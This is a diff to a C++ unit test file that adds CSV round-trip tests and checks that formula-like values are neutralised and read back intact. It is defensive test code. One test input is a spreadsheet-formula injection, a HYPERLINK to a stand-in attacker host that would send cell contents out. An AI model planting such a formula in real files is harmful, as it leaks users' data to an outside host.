@@ -8,6 +8,7 @@
 // then review the diff (git diff tests/frameworks consultation/frameworks).
 
 #include "consultation/framework_import.h"
+#include "consultation/csv.h"
 
 #include <google/protobuf/util/message_differencer.h>
 #include <gtest/gtest.h>
@@ -125,6 +126,37 @@ kenes::v1::Framework awkward_framework() {
 TEST(FrameworkImportTest, CsvRoundTripKeepsQuotesCommasLineBreaksUnicodeAndEmptyBranches) {
   auto fw = awkward_framework();
   std::string csv = framework_to_csv(fw);
+  auto back = import_framework_csv(csv);
+  ASSERT_TRUE(back.ok()) << report(back) << csv;
+  EXPECT_TRUE(MessageDifferencer::Equals(fw, *back.framework)) << csv << "\n" << back.framework->DebugString();
+}
+
+// A value a spreadsheet would run as a formula is written as text (an
+// apostrophe, quoted) and reads back as it was.
+TEST(FrameworkImportTest, CsvNeutralisesFormulasAndReadsThemBack) {
+  EXPECT_EQ(csv_field("=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click me\")"),
+            "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&A1,\"\"click me\"\")\"");
+  for (const char* v : {"+1", "-2", "@SUM(A1)", "\tx", "\rx"}) {
+    std::string field = csv_field(v);
+    EXPECT_EQ(field, "\"'" + std::string(v) + "\"") << v;
+    EXPECT_EQ(csv_unneutralise(field.substr(1, field.size() - 2)), v);
+  }
+  EXPECT_EQ(csv_field("plain"), "plain");
+  EXPECT_EQ(csv_field("a-b"), "a-b");
+  EXPECT_EQ(csv_field("'=x"), "\"''=x\"");  // already looks neutralised: one more apostrophe
+  EXPECT_EQ(csv_unneutralise("''=x"), "'=x");
+
+  auto fw = awkward_framework();
+  fw.mutable_categories(0)->set_title("=1+1");
+  auto* theme = fw.mutable_categories(0)->mutable_themes(1);
+  theme->set_title("@cmd");
+  auto* ind = theme->mutable_questions(1)->mutable_indicators(0);
+  ind->set_title("-minus");
+  ind->add_sources("+plus");
+  ind->add_sources("'=quoted");
+  theme->mutable_questions(1)->mutable_indicators(1)->add_sources("''+first");  // at the start of its field
+  std::string csv = framework_to_csv(fw);
+  EXPECT_EQ(csv.find(",=1+1"), std::string::npos) << csv;
   auto back = import_framework_csv(csv);
   ASSERT_TRUE(back.ok()) << report(back) << csv;
   EXPECT_TRUE(MessageDifferencer::Equals(fw, *back.framework)) << csv << "\n" << back.framework->DebugString();
